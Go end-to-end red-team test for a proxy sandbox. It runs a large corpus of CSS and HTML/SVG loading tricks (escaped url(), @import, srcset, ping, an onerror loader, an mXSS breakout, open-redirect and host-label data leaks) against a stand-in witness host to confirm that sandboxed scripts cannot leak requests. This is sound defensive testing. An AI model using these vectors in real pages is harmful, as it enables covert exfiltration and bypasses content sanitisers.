package e2e

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/remixproxy/remixproxy/sandbox"
	"github.com/remixproxy/remixproxy/store"
)

// Red-team pass 5a: requests a remixlet makes the browser send to hosts it was not granted. A
// corpus of every construct found that makes Chromium fetch or connect — CSS (url() in every
// property that takes an image or resource, image-set(), cross-fade(), @import, @font-face,
// escapes, comments, nesting and every at-rule wrapper, custom properties, attr()), and HTML or
// SVG (every element and attribute that loads, prefetches, preconnects, pings or navigates) —
// is run through every path a remixlet has to the page: style.css, dom.addStyle, dom.setStyle,
// dom.setHTML, dom.create and dom.setAttr, by remixlets with no network permission and by ones
// granted only another host (fetch:granted.test). Every vector has an address of its own on the
// witness (https and http, a data-carrying host label, and the page's own open redirect towards
// the witness), so a request names the vector and the path that let it out.
//
// The test is differential: the page applies the same vectors itself (a <style> element, markup
// set by its own script), and those requests must reach the witness, vector by vector, so the
// corpus is shown to load in this Chromium and the witness to record it; none of the remixlets'
// may. The proxy answers a CONNECT itself without dialing the upstream (proxy/connect.go), so a
// preconnect or dns-prefetch that reached the proxy would still leave nothing: only requests are
// counted, and the witness hosts count every request on every path.

// loadsWitness is a witness that also serves the granted host, so that loads a remixlet may make
// (from granted.test) are seen arriving.
const (
	loadsPage    = "https://loads.test/page"
	loadsMatches = "https://loads.test/page*"
)

// cssVector is a stylesheet piece; S is the selector of the vector's own element, U and U2 its
// addresses on the witness, L an address on a witness host whose label carries data, R the
// page's own open redirect to the witness, F a font family name of its own. decl, when set, is
// the same load as dom.setStyle properties (a JSON object with the same placeholders).
type cssVector struct {
	name, css, decl string
}

var loadCSSVectors = []cssVector{
	{"background url", `{S}{background:url({U})}`, `{"background":"url({U})"}`},
	{"background-image quoted", `{S}{background-image:url("{U}")}`, `{"backgroundImage":"url('{U}')"}`},
	{"URL upper case", `{S}{background:URL({U})}`, `{"background":"URL({U})"}`},
	{"escaped url hex", `{S}{background:\75 rl({U})}`, `{"background":"\\75 rl({U})"}`},
	{"escaped url letter", `{S}{background:u\rl({U})}`, `{"background":"u\\rl({U})"}`},
	{"escaped url last letter", `{S}{background:ur\6c({U})}`, `{"background":"ur\\6c({U})"}`},
	{"url with spaces and string", `{S}{background:url(  "{U}"  )}`, `{"background":"url(  '{U}'  )"}`},
	{"url escaped address", `{S}{background:url(https:\2f\2fwitness.test/{P}/ESC)}`, ``},
	{"url string escaped dot", `{S}{background:url("https://witness\2etest/{P}/ESC")}`, ``},
	{"url scheme-relative", `{S}{background:url(//witness.test/{P}/SR)}`, `{"background":"url(//witness.test/{P}/SR)"}`},
	{"url upper-case host and port", `{S}{background:url(https://WITNESS.test:443/{P}/UP)}`, ``},
	{"url plain http", `{S}{background:url(http://witness.test/{P}/HTTP)}`, `{"background":"url(http://witness.test/{P}/HTTP)"}`},
	{"url data in the host label", `{S}{background:url({L})}`, `{"background":"url({L})"}`},
	{"url open redirect on the page's site", `{S}{background:url({R})}`, `{"background":"url({R})"}`},
	{"url string line continuation", "{S}{background:url(\"https://wit\\\nness.test/{P}/LC\")}", ``},
	{"image-set string", `{S}{background:image-set("{U}" 1x)}`, `{"background":"image-set('{U}' 1x)"}`},
	{"image-set url", `{S}{background-image:image-set(url({U}) 1x)}`, `{"backgroundImage":"image-set(url({U}) 1x)"}`},
	{"-webkit-image-set", `{S}{background-image:-webkit-image-set(url({U}) 1x)}`, `{"backgroundImage":"-webkit-image-set(url({U}) 1x)"}`},
	{"image-set type()", `{S}{background-image:image-set("{U}" type("image/png"))}`, ``},
	{"-webkit-cross-fade", `{S}{background-image:-webkit-cross-fade(url({U}), url({U2}), 50%)}`, `{"backgroundImage":"-webkit-cross-fade(url({U}), url({U2}), 50%)"}`},
	{"cross-fade", `{S}{background-image:cross-fade(url({U}) 50%, url({U2}))}`, `{"backgroundImage":"cross-fade(url({U}) 50%, url({U2}))"}`},
	{"light-dark images", `{S}{background-image:light-dark(url({U}), url({U2}))}`, `{"backgroundImage":"light-dark(url({U}), url({U2}))"}`},
	{"src() string", `{S}{background-image:src("{U}")}`, `{"backgroundImage":"src('{U}')"}`},
	{"image()", `{S}{background-image:image(url({U}))}`, `{"backgroundImage":"image(url({U}))"}`},
	{"second layer", `{S}{background:linear-gradient(red,blue), url({U})}`, `{"background":"linear-gradient(red, blue), url({U})"}`},
	{"border-image", `{S}{border:10px solid;border-image:url({U}) 30 round}`, `{"border":"10px solid","borderImage":"url({U}) 30 round"}`},
	{"border-image-source", `{S}{border:10px solid;border-image-source:url({U})}`, `{"border":"10px solid","borderImageSource":"url({U})"}`},
	{"mask-image", `{S}{mask-image:url({U})}`, `{"maskImage":"url({U})"}`},
	{"-webkit-mask-image", `{S}{-webkit-mask-image:url({U})}`, `{"WebkitMaskImage":"url({U})"}`},
	{"mask shorthand", `{S}{mask:url({U})}`, `{"mask":"url({U})"}`},
	{"-webkit-mask-box-image", `{S}{-webkit-mask-box-image:url({U}) 10}`, `{"WebkitMaskBoxImage":"url({U}) 10"}`},
	{"-webkit-box-reflect", `{S}{-webkit-box-reflect:below 0 url({U})}`, `{"WebkitBoxReflect":"below 0 url({U})"}`},
	{"list-style", `{S}{display:list-item;list-style:url({U}) inside}`, `{"display":"list-item","listStyle":"url({U}) inside"}`},
	{"list-style-image", `{S}{display:list-item;list-style-image:url({U})}`, `{"display":"list-item","listStyleImage":"url({U})"}`},
	{"cursor", `{S}{cursor:url({U}), auto}`, `{"cursor":"url({U}), auto"}`},
	{"content before", `{S}::before{content:url({U})}`, ``},
	{"content image-set after", `{S}::after{content:image-set("{U}" 1x)}`, ``},
	{"content on the element", `{S}{content:url({U})}`, `{"content":"url({U})"}`},
	{"filter url", `{S}{filter:url({U}#f)}`, `{"filter":"url({U}#f)"}`},
	{"clip-path url", `{S}{clip-path:url({U}#c)}`, `{"clipPath":"url({U}#c)"}`},
	{"shape-outside", `{S}{float:left;width:9px;height:9px;shape-outside:url({U})}`, `{"float":"left","width":"9px","height":"9px","shapeOutside":"url({U})"}`},
	{"offset-path url", `{S}{offset-path:url({U}#p)}`, `{"offsetPath":"url({U}#p)"}`},
	{"svg fill url", `{S} circle{fill:url({U}#g)}`, ``},
	{"svg marker url", `{S} path{marker-start:url({U}#m)}`, ``},
	{"font-face", `@font-face{font-family:{F};src:url({U})}{S}{font-family:{F}}`, ``},
	{"font-face local then url", `@font-face{font-family:{F};src:local(NoSuchFontX),url({U}) format("woff2")}{S}{font-family:{F}}`, ``},
	{"import url", `@import url({U});`, ``},
	{"import string", `@import "{U}";`, ``},
	{"import escaped", `@\69mport "{U}";`, ``},
	{"import layer supports", `@import url({U}) layer(x) supports(display:grid);`, ``},
	{"namespace url", `@namespace x url({U});`, ``},
	{"custom property via var", `{S}{--x:url({U});background:var(--x)}`, `{"--x":"url({U})","background":"var(--x)"}`},
	{"var fallback", `{S}{background:var(--no-such, url({U}))}`, `{"background":"var(--no-such, url({U}))"}`},
	{"property initial-value", `@property --p{F}{syntax:"<image>";inherits:false;initial-value:url({U})}{S}{background-image:var(--p{F})}`, ``},
	{"attr() typed url", `{S}{background-image:attr(data-u type(<url>))}`, `{"backgroundImage":"attr(data-u type(<url>))"}`},
	{"attr() in image-set", `{S}{background-image:image-set(attr(data-u) 1x)}`, ``},
	{"media wrapper", `@media all{{S}{background:url({U})}}`, ``},
	{"supports wrapper", `@supports (display:block){{S}{background:url({U})}}`, ``},
	{"layer wrapper", `@layer l1{{S}{background:url({U})}}`, ``},
	{"container wrapper", `@container (min-width:0px){{S}{background:url({U})}}`, ``},
	{"scope wrapper", `@scope ({S}){:scope{background:url({U})}}`, ``},
	{"starting-style wrapper", `@starting-style{{S}{background:url({U})}}`, ``},
	{"nesting &", `{S}{&{background:url({U})}}`, ``},
	{"nesting descendant", `{S}{& span{background:url({U})}}`, ``},
	{"nested at-rule", `{S}{@media all{background:url({U})}}`, ``},
	{"html comment tokens", `<!-- {S}{background:url({U})} -->`, ``},
	{"important", `{S}{background:url({U})!important}`, `{"background":"url({U}) !important"}`},
	{"comment inside name", `{S}{background:u/**/rl({U})}`, `{"background":"u/**/rl({U})"}`},
	{"stray brace", `{S}{color:red}}{S}{background:url({U})}`, ``},
	// The granted host: the "g" paths must load it (no false refusal); the others may not.
	{"granted host", `{S}{background:url({G})}`, `{"background":"url({G})"}`},
}

// htmlVector is markup for dom.setHTML (and the page's own innerHTML, unless noControl: a
// <base> or a refresh would move the whole page); spec, when set, is the same as dom.create's
// ElementSpec. The placeholders are cssVector's.
type htmlVector struct {
	name, html, spec string
	noControl        bool
}

var loadHTMLVectors = []htmlVector{
	{name: "img src", html: `<img src="{U}">`, spec: `{"tag":"img","attrs":{"src":"{U}"}}`},
	{name: "img src open redirect", html: `<img src="{R}">`, spec: `{"tag":"img","attrs":{"src":"{R}"}}`},
	{name: "img src host label", html: `<img src="{L}">`, spec: `{"tag":"img","attrs":{"src":"{L}"}}`},
	{name: "img src plain http", html: `<img src="http://witness.test/{P}/HTTP">`},
	{name: "img src scheme-relative", html: `<img src="//witness.test/{P}/SR">`, spec: `{"tag":"img","attrs":{"src":"//witness.test/{P}/SR"}}`},
	{name: "img src backslashes", html: `<img src="\\witness.test\{PB}\BS">`},
	{name: "img src entity-encoded", html: `<img src="https&#58;&#x2f;/witness.test/{P}/ENT">`},
	{name: "img src tab in scheme", html: "<img src=\"ht\ttps://witness.test/{P}/TAB\">"},
	{name: "img srcset", html: `<img srcset="{U} 1x">`, spec: `{"tag":"img","attrs":{"srcset":"{U} 1x"}}`},
	{name: "img data src with srcset", html: `<img src="data:image/png;base64,iVBORw0KGgo=" srcset="{U} 2x, {U2} 1x">`},
	{name: "img sizes auto srcset", html: `<img loading="lazy" sizes="auto" srcset="{U} 100w">`},
	{name: "img lowsrc", html: `<img lowsrc="{U}">`},
	{name: "img attributionsrc", html: `<img src="/pic.png?attr" attributionsrc="{U}">`, spec: `{"tag":"img","attrs":{"src":"/pic.png?attr2","attributionsrc":"{U}"}}`},
	{name: "img data-src for the page's lazy loader", html: `<img class="lazy" data-src="{U}">`, spec: `{"tag":"img","attrs":{"class":"lazy","data-src":"{U}"}}`},
	{name: "picture source srcset", html: `<picture><source srcset="{U}"><img></picture>`},
	{name: "video poster", html: `<video poster="{U}"></video>`, spec: `{"tag":"video","attrs":{"poster":"{U}"}}`},
	{name: "video src", html: `<video src="{U}"></video>`},
	{name: "video source", html: `<video><source src="{U}"></video>`},
	{name: "audio src", html: `<audio src="{U}"></audio>`},
	{name: "input type image", html: `<input type="image" src="{U}">`, spec: `{"tag":"input","attrs":{"type":"image","src":"{U}"}}`},
	{name: "link stylesheet", html: `<link rel="stylesheet" href="{U}">`, spec: `{"tag":"link","attrs":{"rel":"stylesheet","href":"{U}"}}`},
	{name: "link preload", html: `<link rel="preload" as="image" href="{U}">`},
	{name: "link prefetch", html: `<link rel="prefetch" href="{U}">`},
	{name: "link modulepreload", html: `<link rel="modulepreload" href="{U}">`},
	{name: "link icon", html: `<link rel="icon" href="{U}">`},
	{name: "link preconnect", html: `<link rel="preconnect" href="{L}">`},
	{name: "link dns-prefetch", html: `<link rel="dns-prefetch" href="{L}">`},
	{name: "object data", html: `<object data="{U}" type="image/png"></object>`},
	{name: "embed src", html: `<embed src="{U}" type="image/png">`},
	{name: "iframe src", html: `<iframe src="{U}"></iframe>`},
	{name: "iframe srcdoc", html: `<iframe srcdoc="<img src='{U}'>"></iframe>`},
	{name: "svg image href", html: `<svg><image href="{U}" width="5" height="5"/></svg>`, spec: `{"tag":"svg","children":[{"tag":"image","attrs":{"href":"{U}"}}]}`},
	{name: "svg image xlink:href", html: `<svg><image xlink:href="{U}" width="5" height="5"/></svg>`},
	{name: "svg use", html: `<svg><use href="{U}#x"/></svg>`},
	{name: "svg feImage", html: `<svg><filter id="fe-{F}"><feImage href="{U}"/></filter><rect filter="url(#fe-{F})" width="5" height="5"/></svg>`},
	{name: "svg style import", html: `<svg><style>@import url({U});</style></svg>`},
	{name: "svg fill url", html: `<svg><circle r="3" fill="url({U}#g)"/></svg>`, spec: `{"tag":"svg","children":[{"tag":"circle","attrs":{"r":"3","fill":"url({U}#g)"}}]}`},
	{name: "svg filter attribute", html: `<svg><rect width="5" height="5" filter="url({U}#f)"/></svg>`},
	{name: "svg mask attribute", html: `<svg><rect width="5" height="5" mask="url({U}#m)"/></svg>`},
	{name: "svg presentation style", html: `<svg><rect width="5" height="5" style="fill:url({U}#s)"/></svg>`},
	{name: "svg set href", html: `<svg><image width="5" height="5"><set attributeName="href" to="{U}"/></image></svg>`},
	{name: "style element import", html: `<style>@import url({U});</style>`},
	{name: "style element background", html: `<style>.hv-{F}{background:url({U})}</style><div class="hv-{F}">x</div>`},
	{name: "style attribute", html: `<div style="background:url({U})">x</div>`, spec: `{"tag":"div","attrs":{"style":"background:url({U})"}}`},
	{name: "table background", html: `<table background="{U}"><tr><td>x</td></tr></table>`, spec: `{"tag":"table","attrs":{"background":"{U}"}}`},
	{name: "td background", html: `<table><tr><td background="{U}">x</td></tr></table>`},
	{name: "script src", html: `<script src="{U}"></script>`},
	{name: "img onerror", html: `<img src="data:," onerror="new Image().src='{U}'">`},
	{name: "math href", html: `<math><mi href="{U}">x</mi></math>`},
	{name: "noscript markup", html: `<noscript><img src="{U}"></noscript>`},
	{name: "template shadow root", html: `<div><template shadowrootmode="open"><img src="{U}"></template></div>`},
	{name: "base then relative img", html: `<base href="https://witness.test/{P}/BASE/"><img src="rel.png">`, noControl: true},
	{name: "meta refresh", html: `<meta http-equiv="refresh" content="0;url={U}">`, noControl: true},
	{name: "portal", html: `<portal src="{U}"></portal>`},
	{name: "details in svg foreignObject", html: `<svg><foreignObject width="9" height="9"><img src="{U}"></foreignObject></svg>`},
	{name: "mXSS svg style breakout", html: `<svg><style><img src="{U}"></style></svg>`},
	{name: "granted host", html: `<img src="{G}">`, spec: `{"tag":"img","attrs":{"src":"{G}"}}`},
}

// attrVector is a sequence of dom.setAttr calls on the page's own elements; lazy, when set,
// lets the page's lazy loader load what was written (the test counts that as the remixlet's).
type attrVector struct {
	name string
	ops  [][3]string // selector, attribute, value
}

var loadAttrVectors = []attrVector{
	{"img src", [][3]string{{"#a-img", "src", "{U}"}}},
	{"img src open redirect", [][3]string{{"#a-img2", "src", "{R}"}}},
	{"img SRC upper case", [][3]string{{"#a-img3", "SRC", "//witness.test/{P}/SR"}}},
	{"img srcset", [][3]string{{"#a-img4", "srcset", "{U} 1x"}}},
	{"img lowsrc", [][3]string{{"#a-img4", "lowsrc", "{U}"}}},
	{"img data-src for the lazy loader", [][3]string{{"#a-lazy", "data-src", "{U}"}}},
	{"img data-src scheme-relative", [][3]string{{"#a-lazy2", "data-src", "\\\\witness.test/{P}/BS"}}},
	{"video poster", [][3]string{{"#a-vid", "poster", "{U}"}}},
	{"video src", [][3]string{{"#a-vid", "src", "{U}"}}},
	{"source src", [][3]string{{"#a-vsrc", "src", "{U}"}}},
	{"picture source srcset", [][3]string{{"#a-psrc", "srcset", "{U}"}}},
	{"text input made image", [][3]string{{"#a-inp", "type", "image"}, {"#a-inp", "src", "{U}"}}},
	{"input type image src", [][3]string{{"#a-iimg", "src", "{U}"}}},
	{"table background", [][3]string{{"#a-tbl", "background", "{U}"}}},
	{"div style", [][3]string{{"#a-div", "style", "background:url({U})"}}},
	{"link href", [][3]string{{"#a-lnk", "href", "{U}"}}},
	{"link rel", [][3]string{{"#a-lnk2", "rel", "stylesheet"}}},
	{"iframe src", [][3]string{{"#a-ifr", "src", "{U}"}}},
	{"iframe srcdoc", [][3]string{{"#a-ifr", "srcdoc", "<img src='{U}'>"}}},
	{"object data", [][3]string{{"#a-obj", "data", "{U}"}}},
	{"embed src", [][3]string{{"#a-emb", "src", "{U}"}}},
	{"svg image href", [][3]string{{"#a-simg", "href", "{U}"}}},
	{"svg image xlink:href", [][3]string{{"#a-simg", "xlink:href", "{U}"}}},
	{"svg use href", [][3]string{{"#a-use", "href", "{U}#x"}}},
	{"svg feImage href", [][3]string{{"#a-feimg", "href", "{U}"}}},
	{"svg circle fill", [][3]string{{"#a-circle", "fill", "url({U}#g)"}}},
	{"svg circle filter", [][3]string{{"#a-circle", "filter", "url({U}#f)"}}},
	{"svg circle cursor", [][3]string{{"#a-circle", "cursor", "url({U}), auto"}}},
	{"a ping", [][3]string{{"#a-link", "ping", "{U}"}}},
	{"a attributionsrc", [][3]string{{"#a-link", "attributionsrc", "{U}"}}},
	{"script src", [][3]string{{"#a-script", "src", "{U}"}}},
	{"body background", [][3]string{{"body", "background", "{U}"}}},
	{"granted host", [][3]string{{"#a-img5", "src", "{G}"}}},
}

// loadsWorld is the page, its remixlets and the witness.
type loadsWorld struct {
	*hostileWorld
	granted *witness // granted.test: loads a remixlet with fetch:granted.test may make
}

// The paths are the ways into the page: a remixlet's style.css, dom.addStyle, dom.setStyle,
// dom.setHTML, dom.create and dom.setAttr, each by a remixlet with no network permission and by
// one granted fetch:granted.test (the "g" ones), and a style.css that goes into the first
// frame ("first"); "ctl" and "hctl" are the page's own.
var (
	cssPaths  = []string{"ctl", "sheet", "add", "set", "sheetg", "addg", "setg", "first"}
	htmlPaths = []string{"hctl", "html", "create", "htmlg", "createg"}
	attrPaths = []string{"attr", "attrg"}
)

// fillVector substitutes a vector's placeholders for path and vector i.
func fillVector(s, path string, i int) string {
	u := fmt.Sprintf("https://witness.test/%s/%d", path, i)
	return strings.NewReplacer(
		"{U2}", u+"/b",
		"{U}", u,
		"{G}", fmt.Sprintf("https://granted.test/%s/%d/ok", path, i),
		"{R}", "https://loads.test/redirect?to="+url.QueryEscape(u+"/R"),
		"{L}", fmt.Sprintf("https://%s-%d.leak.witness.test/", path, i),
		"{S}", fmt.Sprintf(".%s-%d", path, i),
		"{F}", fmt.Sprintf("f%s%d", path, i),
		"{P}", fmt.Sprintf("%s/%d", path, i),
		"{PB}", fmt.Sprintf("%s\\%d", path, i),
	).Replace(s)
}

// leakHosts are the witness hosts whose label carries the path and vector.
func leakHosts() []string {
	var out []string
	for _, p := range slices.Concat(cssPaths, htmlPaths, attrPaths) {
		for i := range max(len(loadCSSVectors), len(loadHTMLVectors), len(loadAttrVectors)) {
			out = append(out, fmt.Sprintf("%s-%d.leak.witness.test", p, i))
		}
	}
	return out
}

// loadsSite serves /page: an element of its own for every vector and path, the targets of the
// setAttr vectors, the page's own control (its <style> and markup for the ctl paths), a lazy
// loader as sites have (any img.lazy gets its data-src as src), and /redirect?to=, an open
// redirect as many sites have.
func loadsSite() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/pic.png":
			w.Header().Set("Content-Type", "image/png")
			w.Write(onePixelPNG)
		case "/redirect":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
		case "/page":
			var b strings.Builder
			b.WriteString(`<!doctype html>
<html><head><meta charset="utf-8"><title>Loads</title>
<meta id="a-meta" name="x" content="1">
<link id="a-lnk" rel="stylesheet" href="/none.css">
<link id="a-lnk2" rel="author" href="/about">
</head>
<body><h1>Loads</h1>
`)
			for i := range 16 {
				fmt.Fprintf(&b, "<p class=st id=s-%d></p>\n", i)
			}
			for _, p := range cssPaths {
				for i := range loadCSSVectors {
					fmt.Fprintf(&b, `<div id="%[1]s-%[2]d" class="%[1]s-%[2]d" data-u="https://witness.test/%[1]s/%[2]d/attr">x<span>y</span><svg width="9" height="9"><circle r="3"/><path d="M0 0L5 5" /></svg></div>`+"\n", p, i)
				}
			}
			for _, p := range htmlPaths {
				for i := range loadHTMLVectors {
					fmt.Fprintf(&b, `<div id="%s-%d"></div>`+"\n", p, i)
				}
			}
			b.WriteString(`<div id="attr-targets">
<img id="a-img" alt=""><img id="a-img2" alt=""><img id="a-img3" alt=""><img id="a-img4" alt=""><img id="a-img5" alt="">
<img id="a-lazy" class="lazy" alt=""><img id="a-lazy2" class="lazy" alt="">
<video id="a-vid" width="9" height="9"><source id="a-vsrc" type="video/mp4"></video>
<picture><source id="a-psrc"><img alt=""></picture>
<input id="a-inp" name="q"> <input id="a-iimg" type="image" alt="go">
<table id="a-tbl"><tr><td>t</td></tr></table>
<div id="a-div">d</div>
<iframe id="a-ifr" width="9" height="9"></iframe>
<object id="a-obj" width="9" height="9"></object>
<embed id="a-emb" width="9" height="9">
<svg width="9" height="9"><defs><filter id="a-flt"><feImage id="a-feimg"/></filter></defs><image id="a-simg" width="5" height="5"/><use id="a-use"/><circle id="a-circle" r="3"/></svg>
<a id="a-link" href="/x">link</a>
<div id="planted" class="comment">A comment: <img src="https://witness.test/planted/0" alt="0"> <img src="https://witness.test/planted/1" alt="1"> <a href="https://witness.test/planted/link">l</a></div>
<img id="p-ss" srcset="https://witness.test/planted/s0 100w, https://witness.test/planted/s1 1000w" sizes="50px" alt="">
<img id="p-img1" alt=""><img id="p-img2" alt=""><img id="p-img3" alt=""><img id="p-lazy" class="lazy" alt=""><div id="p-box"></div><div id="p-box2"></div><div id="p-box3"></div>
<script id="a-script" type="text/x-nothing"></script>
</div>
`)
			// Each vector in a <style> of its own: an @import counts only at a sheet's start.
			for i, v := range loadCSSVectors {
				b.WriteString("<style>" + strings.ReplaceAll(fillVector(v.css, "ctl", i), "</", "<\\/") + "</style>\n")
			}
			b.WriteString("<script>\nconst controls = ")
			var ctl []string
			for i, v := range loadHTMLVectors {
				if v.noControl {
					ctl = append(ctl, "")
				} else {
					ctl = append(ctl, fillVector(v.html, "hctl", i))
				}
			}
			j, _ := json.Marshal(ctl)
			b.WriteString(strings.ReplaceAll(string(j), "</", "<\\/"))
			b.WriteString(`;
controls.forEach((h, i) => { if (h) document.getElementById('hctl-' + i).innerHTML = h; });
// A lazy loader, as lazysizes and friends do it: whatever data-src an img.lazy gets is loaded.
const lazy = (img) => { if (img.localName === 'img' && img.classList.contains('lazy') && img.dataset.src) img.src = img.dataset.src; };
document.querySelectorAll('img.lazy').forEach(lazy);
new MutationObserver((records) => {
  for (const r of records) {
    if (r.type === 'attributes') lazy(r.target);
    for (const n of r.addedNodes || []) { if (n.nodeType === 1) { lazy(n); n.querySelectorAll('img.lazy').forEach(lazy); } }
  }
}).observe(document.documentElement, { subtree: true, childList: true, attributes: true, attributeFilter: ['data-src', 'class'] });
document.body.dataset.pageScript = 'ran';
</script>
</body></html>`)
			htmlPage(w, b.String())
		default:
			http.NotFound(w, r)
		}
	})
}

// loadsManifest is a remixlet for the page, with storage and, when granted, fetch:granted.test.
func loadsManifest(name string, granted bool) string {
	perms := `[]`
	if granted {
		perms = `[{"name": "fetch:granted.test", "reason": "its images"}]`
	}
	return fmt.Sprintf(`{"name": %q, "description": "Red-team remixlet for the loads corpus.", "api": 1, "matches": [%q], "permissions": %s}`,
		name, loadsMatches, perms)
}

// loadsScript runs every call in calls (JSON: [{op, target, args}]) one by one, each refusal
// caught, then marks status element n done.
const loadsScript = `const st = await dom.query('#s-%d');
try {
  const calls = %s;
  for (const c of calls) {
    try {
      if (c.op === 'addStyle') {
        await dom.addStyle(c.css);
      } else if (c.op === 'setStyle') {
        await dom.setStyle(await dom.query(c.target), c.styles);
      } else if (c.op === 'setHTML') {
        await dom.setHTML(await dom.query(c.target), c.html);
      } else if (c.op === 'create') {
        await dom.insert(await dom.query(c.target), await dom.create(c.spec));
      } else if (c.op === 'clone') {
        await dom.insert(await dom.query(c.into), await dom.clone(await dom.query(c.target), true));
      } else if (c.op === 'setAttr') {
        for (const [sel, name, value] of c.ops) {
          try { await dom.setAttr(await dom.query(sel), name, value); } catch (e) { }
        }
      }
    } catch (e) { }
  }
} finally {
  await dom.setText(st, 'done');
}
`

// loadsRemixlets stores the remixlets of every path but the page's own.
func (h *loadsWorld) loadsRemixlets() []store.Remixlet {
	type rx struct {
		path  string
		calls []map[string]any
		style string
	}
	var all []rx
	for _, p := range cssPaths[1:] {
		r := rx{path: p}
		for i, v := range loadCSSVectors {
			switch strings.TrimSuffix(p, "g") {
			case "first":
				// A style.css with nothing refused goes into the page's first frame, before the
				// page has a session (the others, with refused parts, are sent on connect).
				if v.name == "url open redirect on the page's site" {
					r.style += fillVector(v.css, p, i) + "\n"
				}
			case "sheet":
				r.style += fillVector(v.css, p, i) + "\n"
			case "add":
				r.calls = append(r.calls, map[string]any{"op": "addStyle", "css": fillVector(v.css, p, i)})
			case "set":
				if v.decl == "" {
					continue
				}
				var styles map[string]string
				if err := json.Unmarshal([]byte(fillVector(v.decl, p, i)), &styles); err != nil {
					h.t.Fatalf("vector %q: its decl is not JSON: %v", v.name, err)
				}
				r.calls = append(r.calls, map[string]any{"op": "setStyle", "target": fmt.Sprintf("#%s-%d", p, i), "styles": styles})
			}
		}
		all = append(all, r)
	}
	for _, p := range htmlPaths[1:] {
		r := rx{path: p}
		for i, v := range loadHTMLVectors {
			target := fmt.Sprintf("#%s-%d", p, i)
			if strings.HasPrefix(p, "html") {
				r.calls = append(r.calls, map[string]any{"op": "setHTML", "target": target, "html": fillVector(v.html, p, i)})
				continue
			}
			if v.spec == "" {
				continue
			}
			var spec any
			if err := json.Unmarshal([]byte(fillVector(v.spec, p, i)), &spec); err != nil {
				h.t.Fatalf("vector %q: its spec is not JSON: %v", v.name, err)
			}
			r.calls = append(r.calls, map[string]any{"op": "create", "target": target, "spec": spec})
		}
		all = append(all, r)
	}
	for _, p := range attrPaths {
		r := rx{path: p}
		for i, v := range loadAttrVectors {
			var ops [][3]string
			for _, o := range v.ops {
				ops = append(ops, [3]string{o[0], o[1], fillVector(o[2], p, i)})
			}
			r.calls = append(r.calls, map[string]any{"op": "setAttr", "ops": ops})
		}
		all = append(all, r)
	}
	// The page's own images (a comment's) written again, in an order that spells bits.
	all = append(all, rx{path: "planted", calls: []map[string]any{
		{"op": "setAttr", "ops": [][3]string{{"#p-img1", "src", "https://witness.test/planted/1"}, {"#p-img2", "src", "https://witness.test/planted/0"}, {"#p-img3", "src", "//witness.test/planted/1"}, {"#p-lazy", "data-src", "https://witness.test/planted/0"}, {"#p-ss", "sizes", "900px"}, {"#p-ss", "sizes", "50px"}, {"#p-ss", "sizes", "900px"}}},
		{"op": "create", "target": "#p-box", "spec": map[string]any{"tag": "img", "attrs": map[string]string{"src": "https://witness.test/planted/1"}}},
		{"op": "setHTML", "target": "#p-box2", "html": `<img src="https://witness.test/planted/0"><a href="https://witness.test/planted/link">l</a>`},
		{"op": "clone", "target": "#planted", "into": "#p-box3"},
	}})
	var out []store.Remixlet
	for n, r := range all {
		name := "loads " + r.path
		calls, _ := json.Marshal(append([]map[string]any{}, r.calls...))
		files := store.Files{
			sandbox.ManifestFile: []byte(loadsManifest(name, strings.HasSuffix(r.path, "g"))),
			sandbox.ScriptFile:   []byte(fmt.Sprintf(loadsScript, n, calls)),
		}
		if r.style != "" {
			files[sandbox.StyleFile] = []byte(r.style)
		}
		out = append(out, saveUnchecked(h.t, h.st, name, files))
	}
	return out
}

// witnessLine reads "GET https://witness.test/add/3/ESC (Referer …)" (or a leak host's, or the
// granted host's) as the host, path and vector it names.
var witnessLine = regexp.MustCompile(`^\S+ https?://(?:([a-z]+)-(\d+)\.leak\.)?([a-z.]+)(?::\d+)?/(?:([a-z]+)/(\d+))?`)

func witnessVector(line string) (host, path string, i int, ok bool) {
	m := witnessLine.FindStringSubmatch(line)
	switch {
	case m == nil:
		return "", "", 0, false
	case m[1] != "":
		fmt.Sscan(m[2], &i)
		return m[3], m[1], i, true
	case m[4] != "":
		fmt.Sscan(m[5], &i)
		return m[3], m[4], i, true
	}
	return "", "", 0, false
}

// vectorName names vector i of path.
func vectorName(path string, i int) string {
	switch {
	case slices.Contains(cssPaths, path) && i < len(loadCSSVectors):
		return loadCSSVectors[i].name
	case slices.Contains(htmlPaths, path) && i < len(loadHTMLVectors):
		return loadHTMLVectors[i].name
	case slices.Contains(attrPaths, path) && i < len(loadAttrVectors):
		return loadAttrVectors[i].name
	}
	return fmt.Sprintf("#%d", i)
}

// TestRedteamLoadsCorpus runs the corpus through every path; nothing a remixlet writes may reach
// the witness, while the page's own copy of each vector that loads in Chromium does.
func TestRedteamLoadsCorpus(t *testing.T) {
	wit := &witness{}
	hosts := map[string]http.Handler{"loads.test": loadsSite(), "witness.test": wit, "granted.test": wit}
	for _, lh := range leakHosts() {
		hosts[lh] = wit
	}
	h := &loadsWorld{hostileWorld: startHostileWorld(t, wit, hosts)}
	rxs := h.loadsRemixlets()
	tab := h.tab
	tab.Navigate(loadsPage)
	tab.WaitConnected()
	allDone := fmt.Sprintf(`[...document.querySelectorAll('p.st')].filter((e) => e.textContent === 'done').length === %d`, len(rxs))
	if err := waitTrue(tab, 60*time.Second, allDone); err != nil {
		var logs []string
		for _, rx := range rxs {
			logs = append(logs, rx.Name+":\n"+h.diagnose(rx))
		}
		t.Fatalf("not every remixlet finished: %v\n%s", err, strings.Join(logs, "\n"))
	}
	// Loads start when styles are computed and elements laid out; give them time to leave.
	time.Sleep(3 * time.Second)

	leaked := map[string][]string{} // path → what reached the witness
	control := map[string]bool{}    // "ctl/3" → reached
	granted := map[string]bool{}    // "sheetg" → the granted vector reached granted.test
	planted := map[string]int{}     // the comment's images: address → requests
	var other []string
	for _, line := range wit.requests() {
		host, path, i, ok := witnessVector(line)
		switch {
		case strings.Contains(line, "witness.test/planted/"):
			planted[strings.Fields(line)[1]]++
		case !ok:
			other = append(other, line)
		case path == "ctl" || path == "hctl":
			control[fmt.Sprintf("%s/%d", path, i)] = true
		case host == "granted.test" && strings.HasSuffix(path, "g") && vectorName(path, i) == "granted host":
			granted[path] = true
		default:
			leaked[path] = append(leaked[path], vectorName(path, i)+": "+line)
		}
	}
